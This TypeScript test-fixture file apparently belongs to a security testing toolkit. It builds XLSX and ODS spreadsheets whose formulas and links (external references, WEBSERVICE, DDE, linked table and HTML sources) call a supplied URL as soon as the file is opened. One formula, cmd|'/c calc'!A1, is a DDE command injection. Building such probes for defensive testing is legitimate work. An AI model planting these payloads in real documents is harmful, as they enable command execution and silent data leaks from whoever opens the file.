import { ODS, XLSX } from '@creatorr/tool-kit/files/media-types';
import { odf } from '@creatorr/tools/testing/builders/odf';
import { relationsXml, xlsx } from '@creatorr/tools/testing/builders/ooxml';
import { escaped, external, type Link } from './link.ts';

/** Of xlsx and ods. */
export const SHEETS: readonly Link[] = [
	{
		name: 'another book of an xlsx',
		mimeType: XLSX,
		kind: 'ods',
		make: (at) =>
			xlsx({
				body: '<row r="2"><c r="A2"><f>[1]One!$A$1</f></c><c r="B2"><f>[1]One!$A$2</f></c></row>',
				workbook:
					'<externalReferences><externalReference r:id="rId5"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
				workbookRelations: [{ id: 'rId5', type: 'externalLink', target: 'externalLinks/externalLink1.xml' }],
				types:
					'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
				extra: [
					{
						name: 'xl/externalLinks/externalLink1.xml',
						content:
							'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId9"><sheetNames><sheetName val="One"/></sheetNames></externalBook></externalLink>',
					},
					{
						name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
						content: relationsXml(external('externalLinkPath', at)),
					},
				],
			}),
	},
	{
		name: 'a web function of an xlsx',
		mimeType: XLSX,
		kind: 'text',
		make: (at) =>
			xlsx({
				body: `<row r="2"><c r="A2"><f>_xlfn.WEBSERVICE("${escaped(at)}")</f></c></row>`,
				workbook: '<calcPr fullCalcOnLoad="1"/>',
			}),
	},
	{
		name: 'a dynamic link of an xlsx',
		mimeType: XLSX,
		kind: 'text',
		isRare: true,
		make: (at) =>
			xlsx({
				body: `<row r="2"><c r="A2"><f>DDE("soffice","${escaped(at)}","A1")</f></c><c r="B2"><f>cmd|'/c calc'!A1</f></c></row>`,
				workbook: '<calcPr fullCalcOnLoad="1"/>',
			}),
	},
	{
		name: 'a reference of an ods',
		mimeType: ODS,
		kind: 'ods',
		make: (at) =>
			odf('spreadsheet', {
				body: `<table:table-row><table:table-cell table:formula="of:=['${escaped(at)}'#$One.A1]&amp;['${escaped(at)}'#$One.A2]"/></table:table-row>`,
			}),
	},
	{
		name: 'a web function of an ods',
		mimeType: ODS,
		kind: 'text',
		isRare: true,
		make: (at) =>
			odf('spreadsheet', {
				body: `<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${escaped(at)}&quot;)"/></table:table-row>`,
			}),
	},
	{
		name: 'a dynamic link of an ods',
		mimeType: ODS,
		kind: 'text',
		isRare: true,
		make: (at) =>
			odf('spreadsheet', {
				body: `<table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;${escaped(at)}&quot;;&quot;A1&quot;)"/></table:table-row>`,
			}),
	},
	{
		name: 'a sheet of an ods',
		mimeType: ODS,
		kind: 'csv',
		isRare: true,
		make: (at) =>
			odf('spreadsheet', {
				body: `</table:table><table:table table:name="Two"><table:table-source xlink:type="simple" xlink:href="${escaped(at)}" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76"/><table:table-row><table:table-cell/></table:table-row>`,
			}),
	},
	{
		name: 'a range of an ods',
		mimeType: ODS,
		kind: 'html',
		isRare: true,
		make: (at) =>
			odf('spreadsheet', {
				body: `<table:table-row><table:table-cell><table:cell-range-source table:name="HTML_all" table:last-column-spanned="2" table:last-row-spanned="2" xlink:type="simple" xlink:href="${escaped(at)}" table:filter-name="calc_HTML_WebQuery" table:refresh-delay="PT1S"/></table:table-cell></table:table-row>`,
			}),
	},
];
